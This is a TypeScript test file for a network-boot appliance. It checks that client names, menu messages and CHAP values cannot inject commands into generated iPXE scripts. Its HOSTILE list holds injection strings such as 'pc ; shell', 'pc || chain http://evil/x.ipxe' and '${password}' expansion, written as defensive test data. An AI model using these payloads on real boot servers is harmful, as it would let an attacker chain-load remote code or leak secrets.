/**
 * Issue #13: client names went unescaped into iPXE `echo`/`menu`/`item` lines, where `;`, `||`
 * and `&&` start another command, `#` a comment, `${..}` expands (again and again), a trailing
 * `\` swallows the next line, and a newline is a new line. The scripts are read here the way
 * iPXE's src/core/exec.c and script.c read them; a hostile name must not change the commands.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { renderIpxeScript, renderMenuScript, renderRetryScript, scriptText } from '../../appliance/boot/ipxe-script';
import { ClientRegistry } from '../../appliance/clients/registry';
import { FakeClock } from '../../appliance/core/clock';
import { openDatabase } from '../../appliance/core/db';
import { silentLogger } from '../../appliance/core/log';
import type { ClientRecord } from '../../appliance/core/model';
import { ImageStore } from '../../image-store/store';

/** The commands iPXE would run, in order, as argv arrays (settings left unexpanded, labels dropped). */
function ipxeCommands(script: string): string[][] {
  const lines: string[] = [];
  let pending = '';
  for (const raw of script.split('\n')) {
    // script.c: a line ending in a backslash continues on the next one.
    if (raw.endsWith('\\')) {
      pending += raw.slice(0, -1);
      continue;
    }
    lines.push(pending + raw);
    pending = '';
  }
  const out: string[][] = [];
  for (const line of lines) {
    if (/^\s*:/.test(line)) continue; // a label
    let cmd: string[] = [];
    for (const tok of line.split(/\s+/).filter(Boolean)) {
      if (tok.startsWith('#')) break; // exec.c: a token starting with # ends the line
      if (tok === '||' || tok === '&&' || tok === ';') {
        if (cmd.length) out.push(cmd);
        out.push([tok]);
        cmd = [];
        continue;
      }
      cmd.push(tok);
    }
    if (cmd.length) out.push(cmd);
  }
  return out;
}

/** The shape that must not change: each command's name, the separators, and every `${`. */
const shape = (script: string) => ({
  commands: ipxeCommands(script).map((c) => c[0]),
  expansions: script.match(/\$\{[^}]*\}/g) ?? [],
  lines: script.split('\n').length,
});

const HOSTILE = [
  'pc ; shell',
  'pc || chain http://evil/x.ipxe',
  'pc && chain http://evil/x.ipxe',
  'pc ${password} ${net0/mac}',
  'pc\nchain http://evil/x.ipxe',
  'pc\r\nshell',
  '# pc',
  'pc #1',
  'pc \\',
  '--timeout 0 pc',
  '$${x}{y}',
  'pc\u2028shell',
];

const base: ClientRecord = {
  mac: '52:54:00:12:34:56',
  name: 'pc',
  image: 'debian',
  disk: 'client-525400123456',
  target: 'iqn.2026-11.test:client-525400123456',
  lun: 0,
  initiatorName: 'iqn.2026-11.test:initiator-525400123456',
  initiators: [],
  chap: { user: 'iqn.2026-11.test:initiator-525400123456', secret: 'Abc-def.ghiJKL01' },
  ip: null,
  createdAt: 0,
};
const opts = { serverAddress: '198.18.0.1', iscsiPort: 3260 };

describe('iPXE script text (issue #13)', () => {
  it.each(HOSTILE)('a client named %j cannot add a command to its sanboot script', (name) => {
    const evil = renderIpxeScript({ ...base, name, image: name, disk: name }, opts);
    expect(shape(evil)).toEqual(shape(renderIpxeScript(base, opts)));
    // No line of the hostile script starts a command the benign one does not have.
    const starts = (sc: string) => sc.split('\n').filter((l) => /^(chain|shell|imgexec|boot)\b/.test(l));
    expect(starts(evil)).toEqual(starts(renderIpxeScript(base, opts)));
  });

  it.each(HOSTILE)('nor to its retry and menu scripts (%j)', (name) => {
    expect(shape(renderRetryScript({ mac: base.mac, name, reason: 'static' }))).toEqual(
      shape(renderRetryScript({ mac: base.mac, name: 'pc', reason: 'static' })),
    );
    expect(shape(renderMenuScript(base.mac, { scriptUrl: 'http://198.18.0.1:8080/boot/x.ipxe', message: name }))).toEqual(
      shape(renderMenuScript(base.mac, { scriptUrl: 'http://198.18.0.1:8080/boot/x.ipxe', message: 'pc' })),
    );
  });

  it('scriptText keeps ordinary names readable and turns syntax into _', () => {
    expect(scriptText("Room 2 PC (Anna's)")).toBe("Room 2 PC (Anna's)");
    expect(scriptText('pc ; shell')).toBe('pc _ shell');
    expect(scriptText('a\nb')).toBe('a b');
    expect(scriptText('${x}')).toBe('__x_');
    expect(scriptText('-x')).toBe('_x');
    expect(scriptText('')).toBe('_');
  });

  it('CHAP values with script syntax are written as :hex settings, never raw', () => {
    const s = renderIpxeScript({ ...base, chap: { user: 'u ; shell', secret: '${x}||y\nz#1234' } }, opts);
    expect(s).toContain(`set username:hex ${Buffer.from('u ; shell').toString('hex').match(/../g)!.join(':')}`);
    expect(s).toContain(`set password:hex ${Buffer.from('${x}||y\nz#1234').toString('hex').match(/../g)!.join(':')}`);
    expect(shape(s).commands).toEqual(shape(renderIpxeScript(base, opts)).commands);
  });
});

describe('client names at the registry (issue #13)', () => {
  it('refuses names with iPXE syntax or control characters, accepts ordinary ones', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'nb-names-'));
    const clock = new FakeClock();
    const store = ImageStore.open({ dir: join(dir, 'store'), clock, log: silentLogger(), segmentMiB: 4, chunkKiB: 64, reserveMiB: 0 });
    try {
      writeFileSync(join(dir, 'img.raw'), Buffer.alloc(1024 * 1024, 7));
      await store.importImage('img', join(dir, 'img.raw'));
      const clients = new ClientRegistry(openDatabase(join(dir, 'a.db')), store, { iqnPrefix: 'iqn.2026-11.test', clock });
      for (const [i, name] of HOSTILE.filter((n) => /[;|&$#\\\n\r{}]/.test(n)).entries()) {
        expect(() => clients.create(`02:00:00:00:01:${String(i).padStart(2, '0')}`, 'img', { name }), name).toThrow(/BAD_NAME|may not contain/);
      }
      const ok = clients.create('02:00:00:00:02:01', 'img', { name: "Room 2 PC (Anna's)" });
      expect(ok.name).toBe("Room 2 PC (Anna's)");
      expect(() => clients.update(ok.mac, { name: 'x; shell' })).toThrow(/may not contain/);
      await expect(clients.moveDisk(ok.mac, '02:00:00:00:02:02', { copy: true, name: 'y || chain' })).rejects.toThrow(/may not contain/);
    } finally {
      await store.close();
    }
  });
});
